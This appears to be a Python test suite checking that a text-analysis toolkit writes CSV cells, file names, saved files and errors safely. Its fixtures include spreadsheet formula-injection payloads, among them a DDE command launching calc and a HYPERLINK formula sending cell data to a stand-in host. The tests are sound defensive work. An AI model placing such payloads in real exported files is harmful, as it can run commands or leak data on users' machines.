"""Names and cells as they are written: nothing that a document says becomes a formula, a command or a broken file."""

from __future__ import annotations

import codecs
import csv
import io
import json
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import given, strategies as st
from pandas.testing import assert_frame_equal

import toolkit
from tests.support.frames import as_text
from tests.support.listed import arguments
from toolkit import __main__ as command, export, tables
from toolkit.coding import log
from toolkit.coding.file import CodingFile
from toolkit.compare import compare
from toolkit.errors import FormatError, SaveError, SourceError, ToolkitError
from toolkit.explorers import EXPLORERS, CompareExplorer, CoverageExplorer, Kind, MarkView, OpenFile, evidence
from toolkit.plots.files import to_png, to_svg
from toolkit.read.pdf.facsimile import Facsimile
from toolkit.tables import TABLES
from toolkit.written import file_name, guarded, shown, sums_line, unguarded, whole

pytestmark = pytest.mark.slow  # it saves files

TEXT = "The General Assembly,\n\nRecalling that,\n\n1. Decides to meet."
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r1",
    "'quoted",
    " =1+1",
    "＝1",
    "\ufeff=1",
    "\u00a0@a",
    "=cmd|' /C calc'!A0",
]
NAMES = [
    "a\nb.md",
    "a\rb.md",
    "a\\b.md",
    "\x1b[31m.md",
    "a\0b.md",
    "\udce9.md",
    "\ud800.md",
    "\u202egnp.md",
    "x" * 240 + ".md",
]
ODD = st.text(st.characters(codec=None) | st.sampled_from("=+-@'\"\t\r\n,;\0\ud800"), max_size=12)


def of(name: str, text: str = TEXT) -> toolkit.Resolution:
    return toolkit.parse(text, "text", name=name)


# --- Cells -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("words", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_compute_begins_with_an_apostrophe(words: str) -> None:
    assert guarded(words) == f"'{words}"
    assert unguarded(guarded(words)) == words


@pytest.mark.parametrize("words", ["", "OP1", "1+1", "a=b", "–", "(=1)", "3 - 2"])
def test_any_other_cell_is_as_it_is(words: str) -> None:
    assert guarded(words) == words == unguarded(words)


@given(st.lists(st.tuples(ODD, ODD, st.integers(-9, 9)), min_size=1, max_size=4))
def test_a_table_comes_back_from_csv_as_it_was(rows: list[tuple[str, str, int]]) -> None:
    frame = pd.DataFrame([(whole(a), whole(b), n) for a, b, n in rows], columns=["text", "=head", "words"])
    written = tables.to_csv(frame)
    again = tables.read_csv(io.StringIO(written, newline=""), "clauses")
    assert again.to_numpy().tolist() == frame.to_numpy().tolist()
    assert list(again) == list(frame)
    for cells in csv.reader(io.StringIO(written, newline=""), strict=True):  # as any other program reads it
        assert not [cell for cell in cells[:2] if cell.lstrip().startswith(tuple("=+-@"))]


HOSTILE = TEXT.replace("Decides", '=HYPERLINK("http://a.example/?"&A1,"x") Decides') + "\n\n2. @SUM(1) Decides.\n"


def formulas(content: str) -> list[str]:
    rows = csv.reader(io.StringIO(content, newline=""), strict=True)
    return [cell for cells in rows for cell in cells if re.match(r"\s*[=+@]|\s*-(?![\d.]+$)", cell)]


@pytest.mark.parametrize("name", [n for n, table in TABLES.items() if table.takes == "resolution"])
def test_every_table_is_written_without_formulas_and_read_again(name: str) -> None:
    hostile = of("=cmd.md", HOSTILE)
    frame = TABLES[name].load()(hostile)
    written = tables.to_csv(frame)
    assert formulas(written) == []
    assert_frame_equal(as_text(tables.read_csv(io.StringIO(written, newline=""), name)), as_text(frame))


def test_all_that_the_toolkit_writes_as_csv_follows_one_rule(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = of("=cmd.md", HOSTILE)
    packed = zipfile.ZipFile(io.BytesIO(export.FORMATS["csv"].write(hostile)))
    CoverageExplorer(hostile).save(tmp_path / "saved")
    files = [packed.read(name) for name in packed.namelist()]
    files += [path.read_bytes() for path in tmp_path.rglob("*.csv")]
    assert [content[:3] for content in files] == [codecs.BOM_UTF8] * len(files)  # spreadsheets ask for it
    desk = CodingFile(hostile, "=me", tmp_path / "codings")
    desk.write("code", "OP1", code="trade")
    desk.write("memo", "OP1", memo=" =1+1")
    (tmp_path / "=cmd.md").write_text(HOSTILE)
    assert command.main([str(tmp_path / "=cmd.md"), "--table", "clauses"]) == 0
    written = [packed.read(name).decode() for name in packed.namelist()]
    written += [path.read_text("utf-8") for path in tmp_path.rglob("*.csv")]
    written.append(capsys.readouterr().out)
    assert not written[-1].startswith("\ufeff")  # a pipe needs none
    assert len(written) > 12
    assert [found for content in written for found in formulas(content)] == []
    clauses = tables.read_csv(io.StringIO(written[0], newline=""), "clauses")
    assert_frame_equal(as_text(clauses), as_text(tables.clauses(hostile)))
    (tmp_path / "again.csv").write_bytes(files[0])
    assert_frame_equal(tables.read_csv(tmp_path / "again.csv", "clauses"), clauses)
    assert clauses["text"].tolist() == [clause.text for clause in hostile.clauses]
    assert log.read(desk.path, hostile).entries == desk.entries
    assert desk.entries[1].memo == " =1+1"


def test_a_file_that_is_no_table_is_refused(tmp_path: Path) -> None:
    with pytest.raises(SourceError, match="cannot be read"):
        tables.read_csv(tmp_path / "none.csv")
    (tmp_path / "a.csv").write_bytes(b"\xff\xfe\xfa")
    with pytest.raises(FormatError, match=r"a\.csv: this is not a table"):
        tables.read_csv(tmp_path / "a.csv")
    with pytest.raises(FormatError, match="does not belong"):
        tables.read_csv(io.StringIO("level\nmany\n"), "clauses")
    with pytest.raises(ToolkitError, match="no table 'claus'"):
        tables.read_csv(io.StringIO("level\n1\n"), "claus")


# --- Names -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [*NAMES, "..", "CON/", "a:b?.md", ""])
def test_a_file_name_is_one_that_every_system_takes(name: str, tmp_path: Path) -> None:
    made = f"{file_name(name) or 'resolution'}.xml"
    (tmp_path / made).write_text("")
    assert [path.name for path in tmp_path.iterdir()] == [made]
    assert made.isprintable()


@pytest.mark.slow
@pytest.mark.parametrize("name", [*NAMES, "\u51b3\u8bae.md", "\U0010ffff.md", "two  words " * 20])
def test_a_document_of_any_name_is_saved_shown_and_taken_away(
    name: str, tmp_path: Path, recwarn: pytest.WarningsRecorder
) -> None:
    resolution = of(name)
    explorer = CoverageExplorer(resolution)
    explorer.save(tmp_path / "saved")
    for form in export.made_of("resolution"):
        assert explorer.take_away(form, tmp_path / "taken").is_file()
    both = CompareExplorer(of("b.md", TEXT.replace("meet", "end")), resolution)
    both.save(tmp_path / "both")
    for form in export.made_of("comparison"):
        assert both.take_away(form, tmp_path / "taken").is_file()
    for path in tmp_path.rglob("*"):
        if path.suffix in (".txt", ".csv", ".py", ".json", ".svg", ".html", ".md", ".xml"):
            path.read_text("utf-8")
    assert json.loads((tmp_path / "saved/resolution.json").read_text("utf-8")) == resolution.to_dict()
    assert (tmp_path / "saved/SHA256SUMS").read_bytes().count(b"# ") == 2
    seen = f"{resolution!r}{resolution._repr_html_()}{both.still()}{both.alt()}"
    assert seen == shown(seen)
    assert warned(recwarn) == []


def test_half_characters_in_the_text_are_saved_too(tmp_path: Path) -> None:
    resolution = of("a.md", TEXT.replace("meet", "me\ud800et"))
    CoverageExplorer(resolution).save(tmp_path)
    assert toolkit.Resolution.from_dict(json.loads((tmp_path / "resolution.json").read_text("utf-8"))) == resolution
    redline = export.FORMATS["redline"].write(compare(of("b.md"), resolution))
    assert "me\ufffdet" in str(redline)


@pytest.mark.skipif(os.name == "nt", reason="such names cannot be there")
def test_a_file_whose_name_is_not_utf_8_is_loaded_and_saved(tmp_path: Path) -> None:
    path = os.fsencode(tmp_path) + b"/r\xe9solution.md"
    Path(os.fsdecode(path)).write_text(TEXT)
    CoverageExplorer(toolkit.load(os.fsdecode(path))).save(tmp_path / "saved")
    assert (tmp_path / "saved/SHA256SUMS").read_text("utf-8").splitlines()[1].endswith("  r\ufffdsolution.md")


@pytest.mark.parametrize("name", ["a\nb.md", "a\\b.md", "\\n.md", "plain.md"])
@pytest.mark.skipif(not shutil.which("sha256sum"), reason="sha256sum is not installed")
def test_sha256sum_checks_what_save_writes(name: str, tmp_path: Path) -> None:
    (tmp_path / name).write_text(TEXT)
    CoverageExplorer(toolkit.load(tmp_path / name)).save(tmp_path)
    done = subprocess.run(["sha256sum", "-c", "--strict", "SHA256SUMS"], cwd=tmp_path, capture_output=True, check=False)
    assert done.returncode == 0, done.stderr
    assert done.stdout.count(b": OK") == len(list(tmp_path.iterdir())) - 2  # all but the document and the sums
    (tmp_path / "ledger.csv").write_text("changed")
    done = subprocess.run(["sha256sum", "-c", "--strict", "SHA256SUMS"], cwd=tmp_path, capture_output=True, check=False)
    assert done.returncode == 1


def test_the_sums_escape_as_coreutils_do() -> None:
    assert sums_line("ab", "a\r\\\n") == "\\ab  a\\r\\\\\\n\n"


@pytest.mark.parametrize("name", ["\x1b[31mred", "a\ud800", "\u202ea"])
def test_an_error_steers_no_terminal(name: str) -> None:
    error = ToolkitError("it is bad", where=name, todo=f"leave {name}")
    assert str(error) == shown(str(error))
    assert error.where == name
    str(error).encode()


def warned(all_: pytest.WarningsRecorder) -> list[str]:
    """The warnings but for that of a font that this machine lacks, which is for the reader to install."""
    return [words for one in all_ if not (words := str(one.message)).startswith("no installed font has")]


# --- Shown -----------------------------------------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("kind", EXPLORERS.values(), ids=lambda kind: kind.name)
def test_a_picture_of_any_names_warns_of_nothing(kind: Kind, tmp_path: Path, recwarn: pytest.WarningsRecorder) -> None:
    resolution = of(
        "\u51b3\u8bae\x01 " + "x" * 250, f"{TEXT[:-1]} on trade \u51b3\x02 and $x$ human rights with Japan."
    )
    who = {"who": "\u51b3" * 90, "folder": tmp_path} if kind.takes == "coder" else {}
    explorer = kind.load()(*(arguments(kind.takes, resolution) if not who else (resolution,)), **who)
    to_svg(explorer.figure(), alt=explorer.alt())
    to_png(explorer.figure())
    assert warned(recwarn) == []


@pytest.mark.parametrize("words", ["$a$ and $b$", "US$ 5 and $\\alpha$"])
def test_money_is_not_set_as_mathematics(words: str) -> None:
    resolution = of(f"{words}.md", TEXT.replace("meet", words))
    shows = [resolution._repr_html_(), OpenFile()._repr_mimebundle_()[0]["text/html"]]
    shows += [explorer._repr_mimebundle_()[0]["text/html"] for explorer in (CoverageExplorer(resolution),)]
    shows.append(MarkView(content="<p>$a$</p>")._repr_mimebundle_()[0]["text/html"])
    shows.append(Facsimile(words, (1,), (b"",))._repr_html_())
    explorer = CoverageExplorer(resolution)
    explorer._say(words)
    shows.append(explorer._status.value)
    for shows_words in shows:
        assert re.match(r'<\w+ class="tex2jax_ignore mathjax_ignore"', shows_words), shows_words[:100]
        assert re.fullmatch(r"<(\w+).*</\1>", shows_words, re.DOTALL)  # one element, so that all is inside


# --- Saving ----------------------------------------------------------------------------------------------------------


class Meanwhile(dict[str, Any]):
    """Files to save; while they are written, another program writes into the folder."""

    def __init__(self, files: dict[str, Any], path: Path) -> None:
        super().__init__(files)
        self.path = path

    def items(self) -> Any:
        self.path.parent.mkdir(exist_ok=True)
        self.path.write_text("theirs")
        return super().items()


def test_a_failed_save_leaves_what_others_wrote(tmp_path: Path) -> None:
    target = tmp_path / "new"
    with pytest.raises(SaveError, match="cannot be written"):
        evidence.write(target, Meanwhile({"a": "x", "n" * 300: "y"}, target / "colleague.csv"))
    assert [path.name for path in target.iterdir()] == ["colleague.csv"]


def failing(monkeypatch: pytest.MonkeyPatch, error: BaseException) -> None:
    """The second file cannot be moved into its place."""
    real, moves = os.replace, iter(range(99))

    def replace(source: Path, target: Path) -> None:
        if next(moves) == 1:
            raise error
        real(source, target)

    monkeypatch.setattr(os, "replace", replace)


@pytest.mark.parametrize("error", [OSError(28, "No space left"), KeyboardInterrupt()], ids=["full", "interrupted"])
@pytest.mark.parametrize("before", [{}, {"a": "old", "b": "older"}], ids=["new folder", "old folder"])
def test_all_is_saved_or_nothing(
    error: BaseException, before: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "x" / "y"
    if before:
        evidence.write(target, before)
    failing(monkeypatch, error)
    with pytest.raises((SaveError, KeyboardInterrupt)):
        evidence.write(target, {"a": "1", "b": "2", "c": "3"})
    assert {path.name: path.read_text() for path in target.glob("*")} == before
    assert (tmp_path / "x").exists() == bool(before)


@pytest.mark.parametrize("folder", ["a\0b", "x" * 300, "a\ud800"])
def test_a_folder_that_cannot_be_is_said(folder: str, tmp_path: Path) -> None:
    with pytest.raises(SaveError, match="cannot be written"):
        evidence.write(tmp_path / "made" / folder, {"a": "x"})
    assert list(tmp_path.iterdir()) == []
